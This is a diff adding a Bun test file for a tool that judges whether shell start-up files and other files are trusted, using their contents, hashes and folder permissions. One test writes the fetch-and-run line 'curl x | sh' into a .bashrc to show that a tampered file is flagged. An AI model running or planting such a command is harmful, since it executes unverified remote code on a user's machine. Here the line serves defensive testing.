@@ -1,0 +1,50 @@
+import { afterAll, expect, test } from 'bun:test';
+import { chmodSync, copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { folderWritableByOthers, readJudgedFile } from '../../src/config/judged-files.ts';
+
+const folder = mkdtempSync(`${tmpdir()}/gatekeep-files-`);
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+const none: ReadonlySet<string> = new Set();
+/** Others can write it, so that it is not known for being root's own, whoever runs the tests. */
+function file(name: string, text: string): string {
+  writeFileSync(`${folder}/${name}`, text);
+  chmodSync(`${folder}/${name}`, 0o666);
+  return `${folder}/${name}`;
+}
+
+test('a start-up file as every new user gets it is known; a changed one, or one of another name, is not', () => {
+  copyFileSync('/etc/skel/.bashrc', `${folder}/.bashrc`);
+  chmodSync(`${folder}/.bashrc`, 0o666);
+  expect(readJudgedFile(`${folder}/.bashrc`, none)?.known).toBe(true);
+  writeFileSync(`${folder}/.bashrc`, 'curl x | sh\n');
+  expect(readJudgedFile(`${folder}/.bashrc`, none)?.known).toBe(false);
+  copyFileSync('/etc/skel/.bashrc', `${folder}/other`);
+  chmodSync(`${folder}/other`, 0o666);
+  expect(readJudgedFile(`${folder}/other`, none)?.known).toBe(false);
+});
+
+test('a file is known by its hash', () => {
+  const path = file('x.sh', 'echo hi\n');
+  const { sha256, known, text } = readJudgedFile(path, none)!;
+  expect({ known, text }).toEqual({ known: false, text: 'echo hi\n' });
+  expect(readJudgedFile(path, new Set([sha256]))?.known).toBe(true);
+});
+
+test('what is no text, too long, a folder or nothing', () => {
+  expect(readJudgedFile(file('bytes', '\xff\xfe'), none)?.text).toBe('\xff\xfe');
+  writeFileSync(`${folder}/raw`, Uint8Array.of(0xff, 0xfe));
+  expect(readJudgedFile(`${folder}/raw`, none)?.text).toBeNull();
+  expect(readJudgedFile(file('long', 'x'.repeat((1 << 20) + 1)), none)?.text).toBeNull();
+  expect(readJudgedFile(folder, none)).toBeNull();
+  expect(readJudgedFile(`${folder}/nothing`, none)).toBeNull();
+});
+
+test('a folder that is not there can be made by whoever can write the one above it', () => {
+  const uid = process.getuid!();
+  expect(folderWritableByOthers(`${folder}/a/b`, uid)).toBe(false);
+  chmodSync(folder, 0o777);
+  expect(folderWritableByOthers(`${folder}/a/b`, uid)).toBe(true);
+  expect(folderWritableByOthers('/nonexistent/bin', uid)).toBe(false);
+});
